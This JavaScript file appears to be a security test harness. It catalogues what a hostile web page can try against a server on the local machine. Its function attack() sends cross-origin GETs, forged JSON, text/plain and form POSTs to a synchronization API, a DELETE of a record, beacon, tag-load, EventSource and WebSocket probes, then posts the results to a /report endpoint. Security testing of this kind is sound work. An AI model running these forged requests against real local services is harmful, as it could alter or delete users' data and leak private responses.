// What a hostile page can try against a server on this machine. Reports what each try came to: "read" with what could be
// read, or how it failed.
const results = [];
const body = JSON.stringify({ Account: { AccountId: 3 }, AccountApplicationId: 9, Markings: [MARKING] });
const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done("no answer"), 8000))]);

async function attempt(name, what) {
  let outcome;
  try {
    outcome = await within(what());
  } catch (error) {
    outcome = "blocked";
  }
  results.push([name, outcome]);
}

async function ask(url, options) {
  const answer = await fetch(url, options);
  if (answer.type === "opaque") return "opaque";
  return "read " + answer.status + " " + (await answer.text()).slice(0, 200);
}

function submit(action, kind, fields) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + results.length;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { action, method: "POST", enctype: kind, target: frame.name });
    for (const [name, value] of fields) {
      const field = document.createElement("input");
      Object.assign(field, { type: "hidden", name, value });
      form.append(field);
    }
    document.body.append(form);
    let loads = 0;
    frame.onload = () => {
      loads += 1;
      try {
        const text = frame.contentDocument && frame.contentDocument.body.textContent;
        if (text) done("read " + text.slice(0, 200));
      } catch (error) {}
      if (loads > 1) done("sent");
    };
    form.submit();
    setTimeout(() => done("sent"), 1500);
  });
}

function load(tag, attribute, url) {
  return new Promise((done) => {
    const element = document.createElement(tag);
    if (tag === "link") element.rel = "stylesheet";
    element.onload = () => {
      try {
        const inner = element.contentDocument && element.contentDocument.body.textContent;
        done(inner ? "read " + inner.slice(0, 200) : "loaded");
      } catch (error) {
        done("loaded");
      }
    };
    element.onerror = () => done("blocked");
    element[attribute] = url;
    document.body.append(element);
  });
}

const stream = (url) => new Promise((done) => {
  const source = new EventSource(url);
  source.onmessage = (event) => done("read " + event.data);
  source.onopen = () => done("read open");
  source.onerror = () => { source.close(); done("blocked"); };
});

const socket = (url) => new Promise((done) => {
  const open = new WebSocket(url);
  open.onopen = () => done("read open");
  open.onmessage = (event) => done("read " + event.data);
  open.onerror = () => done("blocked");
});

async function attack() {
  const sync = "/api/synchronization/synchronize";
  for (const base of BASES) {
    for (const path of ["/api/nodes", "/api/bulk/2.0/syncs", "/id", "/v1/status", "/v1/markings?account=3", "/", "/healthz", "/openapi.json"]) {
      for (const mode of ["cors", "no-cors"]) await attempt(`${mode} GET ${base}${path}`, () => ask(base + path, { mode }));
      await attempt(`with cookies GET ${base}${path}`, () => ask(base + path, { credentials: "include" }));
    }
    await attempt(`text/plain ${base}`, () => ask(base + sync, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body }));
    await attempt(`cors text/plain ${base}`, () => ask(base + sync, { method: "POST", body }));
    await attempt(`form fetch ${base}`, () => ask(base + sync, { method: "POST", mode: "no-cors", body: new URLSearchParams({ "Markings[0].note": "x" }) }));
    await attempt(`JSON ${base}`, () => ask(base + sync, { method: "POST", headers: { "Content-Type": "application/json" }, body }));
    await attempt(`JSON with password ${base}`, () => ask(base + sync, { method: "POST", headers: { "Content-Type": "application/json", Authorization: "Basic YTpi" }, body }));
    await attempt(`DELETE ${base}`, () => ask(base + "/v1/markings/" + MARKING.syncGuid, { method: "DELETE" }));
    await attempt(`beacon ${base}`, async () => (navigator.sendBeacon(base + sync, body) ? "sent" : "blocked"));
    await attempt(`plain form ${base}`, () => submit(base + sync, "text/plain", [[body.slice(0, -1) + ',"x":"', '"}']]));
    await attempt(`form ${base}`, () => submit(base + sync, "application/x-www-form-urlencoded", [["Account.AccountId", "3"], ["Markings[0].AccountId", "3"], ["Markings[0].syncGuid", MARKING.syncGuid], ["Markings[0].note", "x"]]));
    await attempt(`multipart ${base}`, () => submit(base + sync, "multipart/form-data", [["Markings[0].note", "x"]]));
    await attempt(`img ${base}`, () => load("img", "src", base + "/api/markings/getMarkingById?syncGuid=" + MARKING.syncGuid));
    await attempt(`script ${base}`, () => load("script", "src", base + "/dashboard.js"));
    await attempt(`style ${base}`, () => load("link", "href", base + "/dashboard.css"));
    await attempt(`frame ${base}`, () => load("iframe", "src", base + "/openapi.json"));
    await attempt(`events ${base}`, () => stream(base + "/v1/events"));
    await attempt(`socket ${base}`, () => socket(base.replace("http:", "ws:") + "/v1/events"));
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(results) });
}
attack();
